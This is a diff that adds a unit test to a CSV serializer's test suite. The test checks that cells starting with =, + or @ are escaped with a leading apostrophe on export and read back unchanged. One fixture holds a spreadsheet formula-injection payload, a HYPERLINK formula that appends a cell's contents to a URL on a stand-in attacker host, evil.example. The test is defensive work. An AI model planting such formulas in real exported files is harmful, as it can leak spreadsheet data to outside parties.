@@ -58,4 +58,24 @@ describe("CSV content files", () => {
     const { errors } = parseCsv("entity,question,colour\nHO-A-1,Q?,red\n");
     expect(errors.map((e) => `${e.line}:${e.field}`)).toEqual(["1:category", "1:answer", "1:colour"]);
   });
+
+  it("writes a cell a spreadsheet would run as a formula after a ', and reads it back as written", () => {
+    const risky: ContentRecord = {
+      ...RECORD,
+      faqs: [
+        { category: "Policies", question: "Is there a fee?", answer: '=HYPERLINK("https://evil.example/?"&A2,"Details")' },
+        { category: "Policies", question: "+ or - a day?", answer: "@once, then -10% off" },
+      ],
+      translations: [],
+    };
+    const csv = serializeCsv([risky]);
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A2,""Details"")"`);
+    expect(csv).toContain("'+ or - a day?");
+    expect(csv).toContain("'@once, then -10% off");
+    const { lists, errors } = parseCsv(csv);
+    expect(errors).toEqual([]);
+    expect(lists[0]!.faqs.map(({ question, answer }) => ({ question, answer }))).toEqual(
+      risky.faqs.map(({ question, answer }) => ({ question, answer })),
+    );
+  });
 });
